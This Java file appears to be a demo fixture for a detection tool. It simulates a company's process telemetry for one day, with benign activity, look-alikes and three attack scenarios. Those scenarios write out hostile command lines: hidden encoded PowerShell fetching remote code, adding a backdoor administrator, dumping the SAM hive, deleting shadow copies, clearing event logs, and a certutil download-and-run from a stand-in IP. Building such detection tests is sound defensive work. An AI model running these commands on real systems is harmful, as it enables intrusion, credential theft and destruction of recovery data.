package io.spawnwatch.cli.demo;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * A working day of an invented company of five hosts: what its people and systems do, three
 * attacks, and look-alikes that must stay silent. The same on every run.
 */
public final class CompanyDay {

  private static final long BEGIN = Instant.parse("2026-03-02T07:00:00Z").toEpochMilli();
  private static final long MINUTE = 60_000;
  private static final String SYSTEM32 = "C:\\Windows\\System32\\";
  private static final String EXPLORER = "C:\\Windows\\explorer.exe";
  private static final String SERVICES = SYSTEM32 + "services.exe";
  private static final String POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe";
  private static final String OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
  private static final String CMD = SYSTEM32 + "cmd.exe";
  private static final String NET = SYSTEM32 + "net.exe";

  private final Random random = new Random(4_688);
  private final DayHost anna = new DayHost("ws-anna.kontor.example");
  private final DayHost bert = new DayHost("ws-bert.kontor.example");
  private final DayHost clara = new DayHost("ws-clara.kontor.example");
  private final DayHost files = new DayHost("srv-files.kontor.example");
  private final DayHost domain = new DayHost("srv-dc.kontor.example");

  private CompanyDay() {}

  /** The day's records, one JSON object each, in the order of time. */
  public static List<String> records() {
    CompanyDay day = new CompanyDay();
    day.work();
    day.macroAttack();
    day.intruderOnServer();
    day.downloadAndRun();
    day.lookAlikes();
    List<DayEvent> events = new ArrayList<>();
    List.of(day.anna, day.bert, day.clara, day.files, day.domain)
        .forEach(host -> events.addAll(host.events()));
    return new DayRecords().of(events, "ws-bert.kontor.example");
  }

  private static long at(int hour, int minute, int second) {
    return BEGIN + (hour - 7) * 60 * MINUTE + minute * MINUTE + second * 1_000L;
  }

  private void work() {
    for (DayHost host : List.of(anna, bert, clara)) {
      DayHost.Process explorer = host.running(EXPLORER, "KONTOR\\" + name(host));
      desktop(host, explorer);
      services(host, 40);
    }
    services(files, 120);
    services(domain, 120);
  }

  private String name(DayHost host) {
    return host == anna ? "anna" : host == bert ? "bert" : "clara";
  }

  /** A person's programs, with the children that browsers and consoles bring. */
  private void desktop(DayHost host, DayHost.Process explorer) {
    String edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
    String profile = "C:\\Users\\" + name(host) + "\\";
    for (int i = 0; i < 60; i++) {
      long time = BEGIN + (long) (random.nextDouble() * 540 * MINUTE);
      switch (random.nextInt(6)) {
        case 0, 1 -> {
          DayHost.Process browser = host.start(time, explorer, edge, '"' + edge + '"');
          for (int tab = 0; tab < 4; tab++) {
            String type = tab == 0 ? "gpu-process" : "renderer";
            host.run(time + 200 + tab * 90L, 90_000, browser, edge, edge + " --type=" + type);
          }
        }
        case 2 ->
            host.run(
                time,
                20 * MINUTE,
                explorer,
                OFFICE + "EXCEL.EXE",
                '"' + OFFICE + "EXCEL.EXE\" \"" + profile + "Documents\\plan.xlsx\"");
        case 3 -> {
          DayHost.Process shell = host.run(time, 4 * MINUTE, explorer, CMD, '"' + CMD + '"');
          host.run(time + 30, 4 * MINUTE, shell, SYSTEM32 + "conhost.exe", "conhost.exe 0x4");
          host.run(time + 5_000, 40, shell, SYSTEM32 + "ipconfig.exe", "ipconfig");
        }
        case 4 ->
            host.run(time, 900_000, explorer, SYSTEM32 + "notepad.exe", "notepad.exe todo.txt");
        default -> {
          String sync = profile + "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe";
          host.start(time, explorer, sync, '"' + sync + "\" /background");
        }
      }
    }
  }

  /** What Windows does by itself. */
  private void services(DayHost host, int count) {
    DayHost.Process services = host.runningSystem(SERVICES);
    String svchost = SYSTEM32 + "svchost.exe";
    for (int i = 0; i < count; i++) {
      long time = BEGIN + (long) (random.nextDouble() * 540 * MINUTE);
      DayHost.Process group =
          host.run(time, 120_000, services, svchost, svchost + " -k netsvcs -p -s Schedule");
      host.run(time + 400, 45_000, group, SYSTEM32 + "taskhostw.exe", "taskhostw.exe");
      if (i % 3 == 0) {
        host.run(
            time + 900, 90_000, group, SYSTEM32 + "wbem\\WmiPrvSE.exe", "wmiprvse.exe -Embedding");
      }
    }
  }

  /** Anna opens an invoice; its macro adds an administrator. */
  private void macroAttack() {
    DayHost.Process explorer = anna.running(EXPLORER, "KONTOR\\anna");
    DayHost.Process outlook =
        anna.start(at(9, 2, 11), explorer, OFFICE + "OUTLOOK.EXE", "OUTLOOK.EXE");
    DayHost.Process word =
        anna.start(
            at(9, 14, 2),
            outlook,
            OFFICE + "WINWORD.EXE",
            "WINWORD.EXE /n \"C:\\Users\\anna\\Downloads\\invoice_1107.docm\"");
    DayHost.Process shell =
        anna.start(
            at(9, 14, 9),
            word,
            POWERSHELL,
            "powershell.exe -nop -w hidden -enc aQByAG0AIAB4AC4AZQB4AGEAbQBwAGwAZQB8AGkAZQB4AA==");
    DayHost.Process cmd =
        anna.start(
            at(9, 14, 41), shell, CMD, "cmd.exe /c net user Supp0rt LetsDefendEventLogs /add");
    netPair(anna, at(9, 14, 43), cmd, "user Supp0rt LetsDefendEventLogs /add");
    netPair(anna, at(9, 14, 50), cmd, "localgroup administrators Supp0rt /add");
  }

  private static void netPair(DayHost host, long time, DayHost.Process parent, String arguments) {
    DayHost.Process net = host.run(time, 120, parent, NET, "net " + arguments);
    host.run(time + 30, 60, net, SYSTEM32 + "net1.exe", SYSTEM32 + "net1 " + arguments);
  }

  /** Over WMI on the file server: a look around, a hive, then nothing to restore from. */
  private void intruderOnServer() {
    DayHost.Process wmi = files.runningSystem(SYSTEM32 + "wbem\\WmiPrvSE.exe");
    DayHost.Process shell =
        files.start(at(11, 31, 5), wmi, CMD, "cmd.exe /Q /c C:\\Windows\\Temp\\r.bat");
    String[] looks = {"whoami /all", "systeminfo", "ipconfig /all", "nltest /dclist:", "tasklist"};
    long time = at(11, 31, 6);
    for (String look : looks) {
      String program = look.split(" ", -1)[0];
      files.run(time, 300, shell, SYSTEM32 + program + ".exe", look);
      time += 4_000;
    }
    files.run(
        at(11, 33, 0), 900, shell, SYSTEM32 + "reg.exe", "reg save hklm\\sam C:\\Windows\\Temp\\s");
    files.run(
        at(11, 40, 0),
        900,
        shell,
        SYSTEM32 + "vssadmin.exe",
        "vssadmin delete shadows /all /quiet");
    files.run(at(11, 40, 20), 90, shell, SYSTEM32 + "wevtutil.exe", "wevtutil cl System");
  }

  /** Bert, who has Sysmon, runs a batch file that he was sent. */
  private void downloadAndRun() {
    DayHost.Process explorer = bert.running(EXPLORER, "KONTOR\\bert");
    DayHost.Process batch =
        bert.start(
            at(14, 5, 0), explorer, CMD, "cmd.exe /c \"C:\\Users\\bert\\Downloads\\update.bat\"");
    bert.run(
        at(14, 5, 2),
        3_000,
        batch,
        SYSTEM32 + "certutil.exe",
        "certutil -urlcache -split -f http://192.0.2.44/u.exe C:\\Users\\Public\\u.exe");
    bert.start(at(14, 5, 9), batch, "C:\\Users\\Public\\u.exe", "C:\\Users\\Public\\u.exe -s");
  }

  /** What an inventory, an administrator and a deployment do every day. */
  private void lookAlikes() {
    DayHost.Process console = domain.running(SYSTEM32 + "mmc.exe", "KONTOR\\admin");
    DayHost.Process shell = domain.start(at(10, 0, 0), console, CMD, '"' + CMD + '"');
    domain.run(at(10, 0, 30), 200, shell, NET, "net user /domain");
    DayHost.Process services = clara.runningSystem(SERVICES);
    DayHost.Process inventory =
        clara.start(
            at(12, 0, 0),
            services,
            SYSTEM32 + "cscript.exe",
            "cscript.exe //B " + SYSTEM32 + "gatherNetworkInfo.vbs");
    String[] asked = {"systeminfo", "ipconfig /all", "arp -a", "route print", "netstat -r"};
    for (int i = 0; i < asked.length; i++) {
      String program = asked[i].split(" ", -1)[0];
      clara.run(at(12, 0, 2 + i), 200, inventory, SYSTEM32 + program + ".exe", asked[i]);
    }
    DayHost.Process winrs = files.runningSystem(SYSTEM32 + "winrshost.exe");
    files.run(
        at(13, 0, 0),
        4_000,
        winrs,
        POWERSHELL,
        "PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted"
            + " -EncodedCommand JgBjAGgAYwBwAC4AYwBvAG0A");
  }
}
